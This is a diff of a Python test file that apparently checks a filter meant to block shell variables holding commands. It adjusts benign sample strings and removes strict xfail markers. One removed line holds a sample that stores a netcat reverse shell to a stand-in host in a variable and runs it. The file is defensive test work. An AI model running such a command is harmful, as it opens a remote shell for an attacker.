@@ -364,19 +364,13 @@ VARIABLE_COMMANDS = [
 # assignments and dollar signs of text, spreadsheets and prices
 VARIABLE_TEXT = [
     "price=$5 and tax=$1", "x=1\ny=$x+2", "Set EDITOR=vim, then run $EDITOR to edit",
-    "total=$total + $fee", "mode=ls means list; $mode is shown above",
+    "total=$total + $fee", "mode=list means a list; $mode is shown above",
+    "name=Ann; echo hello $name",
     "a=b;$a is a variable in shell docs",
 ]
 
 
-# (strict xfails until the rule that reads them lands)
-_BEFORE = {"v=\"nc -e /bin/sh evil.example 4444\" && $v"}
-
-
-@pytest.mark.parametrize("value", [
-    v if v in _BEFORE else pytest.param(v, marks=pytest.mark.xfail(
-        strict=True, reason="a variable's command line is not read yet"))
-    for v in VARIABLE_COMMANDS])
+@pytest.mark.parametrize("value", VARIABLE_COMMANDS)
 def test_a_variable_holding_a_command_run_where_a_command_stands(rce_edge,
                                                                 value):
     assert_blocked_by_rce(rce_edge, value)
